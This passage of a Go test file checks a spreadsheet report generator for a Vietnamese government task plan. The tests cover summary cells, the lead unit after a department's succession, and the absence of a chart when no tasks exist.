	if got := cellValue(t, f, "Tổng hợp", "A1"); got != "TỔ CÔNG TÁC ĐỀ ÁN 06" {
		t.Errorf("issuer alone: A1 = %q", got)
	}
	if got := cellValue(t, f, "Quá hạn", "A4"); !strings.HasPrefix(got, "Không có") {
		t.Errorf("empty overdue sheet: A4 = %q", got)
	}
}

// SPEC §9: the task sheet names a task's lead as it stands at D. Sở Tư
// pháp ended on 31/03/2024 and passed its assignments on; on 20/04/2024
// the task it was given is led by its successor, named once even when the
// plan names both.
func TestLeadAtD(t *testing.T) {
	r := fixture()
	p := r.Plan
	for i := range p.Units {
		if p.Units[i].ID.Value == "so-tu-phap" {
			p.Units[i].Until = model.Date{Date: day(2024, 3, 31)}
			p.Units[i].Successor = txt("so-tp-nv")
		}
	}
	p.Units = append(p.Units, model.Unit{ID: txt("so-tp-nv"), Name: txt("Sở Tư pháp và Nội vụ"), Level: txt("department"),
		From: model.Date{Date: day(2024, 4, 1)}})
	for i := range p.Tasks {
		if p.Tasks[i].ID.Value == "1.1" {
			p.Tasks[i].Lead = txts("so-tu-phap", "so-tp-nv", "dai-pt-th")
		}
	}
	f := open(t, write(t, r, fixtureOptions(i18n.VI)))
	const s = "Nhiệm vụ"
	if got, want := cellValue(t, f, s, cell(3, findRow(t, f, s, "B", "Rà soát"))), "Sở Tư pháp và Nội vụ"; got != want {
		t.Errorf("lead of 1.2 at D: %q, want %q", got, want)
	}
	if got, want := cellValue(t, f, s, cell(3, findRow(t, f, s, "B", "Tuyên truyền"))), "Sở Tư pháp và Nội vụ; Đài Phát thanh và Truyền hình tỉnh"; got != want {
		t.Errorf("lead of 1.1 at D: %q, want %q", got, want)
	}
}

// With no task in a leaf group there is no chart, and no heading for one.
func TestNoChartNoHeading(t *testing.T) {
	r := fixture()
	r.Tasks = nil
	b := write(t, r, fixtureOptions(i18n.VI))
	rows, err := open(t, b).GetRows("Tổng hợp")
	if err != nil {
		t.Fatal(err)
	}
	heading := i18n.T(i18n.VI, "xlsx.sec.chart")
	for i, row := range rows {
		for _, c := range row {
			if c == heading {
				t.Errorf("row %d holds the chart's heading %q, with no chart", i+1, c)
			}
		}
	}
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if strings.HasPrefix(f.Name, "xl/charts/") {
			t.Errorf("chart part %s, want none", f.Name)
		}
	}
}
